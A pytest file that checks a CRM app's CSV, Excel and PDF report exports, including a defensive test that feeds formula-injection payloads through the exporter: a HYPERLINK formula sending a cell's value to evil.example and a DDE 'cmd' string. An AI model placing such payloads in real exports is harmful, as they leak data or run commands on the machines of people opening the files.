"""Report exports opened and read back: csv module, openpyxl and pypdf."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from crm_desktop.documents.report_export import ExportInfo, export_filename, export_report
from crm_desktop.services.reports.reports import Column, Period, Report, Table

PERIOD = Period(date(2026, 10, 1), date(2026, 12, 31), "quarter")
REPORT = Report(
    "pipeline",
    "Pipeline and weighted forecast",
    PERIOD,
    None,
    (
        Table(
            "pipeline",
            "Pipeline by stage",
            (
                Column("stage", "Stage", "code:stage"),
                Column("count", "Opportunities"),
                Column("amount", "Amount (COP)", "money"),
                Column("share", "Probability (%)", "pct"),
            ),
            (
                ("proposal", 3, Decimal("1250000.50"), Decimal("60.0")),
                ("negotiation", 1, Decimal("2000000.00"), Decimal("80.0")),
            ),
            ("Total", 4, Decimal("3250000.50"), ""),
        ),
        Table("empty", "Rejected proposals", (Column("reason", "Reason", "text"),), ()),
    ),
)
INFO = ExportInfo("Ana Ríos", date(2026, 11, 28), "Soluciones Andinas S.A.S.")


def test_csv_reads_back_with_labels_and_plain_numbers(tmp_path: Path) -> None:
    path = export_report(REPORT, tmp_path / "r.csv", INFO, "es")
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Embudo y pronóstico ponderado"]
    header = rows.index(["Etapa", "Oportunidades", "Valor (COP)", "Probabilidad (%)"])
    assert rows[header + 1] == ["Propuesta", "3", "1250000.50", "60.0"]
    assert rows[header + 2] == ["Negociación", "1", "2000000.00", "80.0"]
    assert rows[header + 3] == ["Total", "4", "3250000.50", ""]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the accents


def test_xlsx_has_a_sheet_per_table_with_real_numbers(tmp_path: Path) -> None:
    path = export_report(REPORT, tmp_path / "r.xlsx", INFO, "en")
    book = load_workbook(path)
    assert book.sheetnames == ["Pipeline by stage", "Rejected proposals"]
    sheet = book["Pipeline by stage"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    header = values.index(["Stage", "Opportunities", "Amount (COP)", "Probability (%)"])
    assert values[header + 1][:3] == ["Proposal", 3, 1250000.5]
    assert sheet.cell(header + 2, 3).number_format == "#,##0.00"
    assert values[header + 3][:3] == ["Total", 4, 3250000.5]


def test_pdf_text_in_spanish_with_colombian_money(tmp_path: Path) -> None:
    path = export_report(REPORT, tmp_path / "r.pdf", INFO, "es")
    text = " ".join(page.extract_text() for page in PdfReader(path).pages)
    for expected in ("Embudo y pronóstico ponderado", "1 de octubre de 2026", "Ana Ríos",
                     "Propuesta", "$ 1.250.001", "80,0%", "Soluciones Andinas"):  # fmt: skip
        assert expected in text
    assert "Nada en este periodo" in text or "Nothing in this period" in text


def test_file_names_and_unknown_format(tmp_path: Path) -> None:
    assert export_filename(REPORT, "pdf", "es") == (
        "Embudo-y-pron-stico-ponderado-2026-10-01_2026-12-31.pdf".replace(
            "-pron-stico", "-pronóstico"
        )
    )
    with pytest.raises(ValueError, match="unknown export format"):
        export_report(REPORT, tmp_path / "r.doc", INFO, "es")


EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"clic")'
EVIL_REPORT = Report(
    "accounts",
    "Accounts",
    None,
    None,
    (
        Table(
            "names",
            "Names",
            (Column("name", "Name", "text"), Column("phone", "Phone", "text")),
            ((EVIL, "+57 (601) 345 6789"), ("-2+3+cmd|' /C calc'!A0", "-")),
            ("@SUM(A1:A9)", ""),
        ),
    ),
)


def test_exports_write_formulas_as_text(tmp_path: Path) -> None:
    csv_rows = list(
        csv.reader(io.StringIO(export_report(EVIL_REPORT, tmp_path / "e.csv", INFO, "en")
                               .read_text(encoding="utf-8-sig")))
    )  # fmt: skip
    assert ["'" + EVIL, "+57 (601) 345 6789"] in csv_rows
    assert ["'-2+3+cmd|' /C calc'!A0", "-"] in csv_rows
    assert ["'@SUM(A1:A9)", ""] in csv_rows
    sheet = load_workbook(export_report(EVIL_REPORT, tmp_path / "e.xlsx", INFO, "en")).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value]
    assert all(c.data_type != "f" for c in cells)  # no cell is a formula
    assert "'" + EVIL in [c.value for c in cells]
